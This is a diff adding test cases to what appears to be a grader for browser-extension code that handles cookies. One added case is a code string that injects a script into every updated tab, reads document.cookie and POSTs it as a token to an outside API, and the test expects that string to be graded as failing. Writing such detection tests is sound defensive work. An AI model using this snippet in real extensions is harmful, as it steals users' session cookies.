@@ -125,6 +125,14 @@ describe('cookies', () => {
     expect(await all(take("create({ url: 'https://www.mail.example/404' })"))).toMatch(/^A/);
     expect(await all(take("create({ url: 'https://www.bank.example/' })"))).toMatch(/[DF]/);
     expect(await all(take('query({ active: true })'))).toMatch(/[DF]/);
+    const opened = take("create({ url: 'https://www.mail.example/404' })");
+    expect(await all(opened.replace('tabId: tab.id', 'tabId: wanted ?? tab.id'))).toMatch(/[DF]/);
+    const shared = opened
+      .replace('async function ask', 'const read = () => document.cookie; async function ask')
+      .replace('func: () => document.cookie', 'func: read');
+    expect(await all(shared)).toMatch(/^A/);
+    const elsewhere = `async function more(id) { const [{ result }] = await chrome.scripting.executeScript({ target: { tabId: id }, func: read }); await fetch('https://api.mail.example/answer', { method: 'POST', headers: { token: result } }); } chrome.tabs.onUpdated.addListener(more);`;
+    expect(await all(shared + elsewhere)).toMatch(/[DF]/);
   });
 });
 
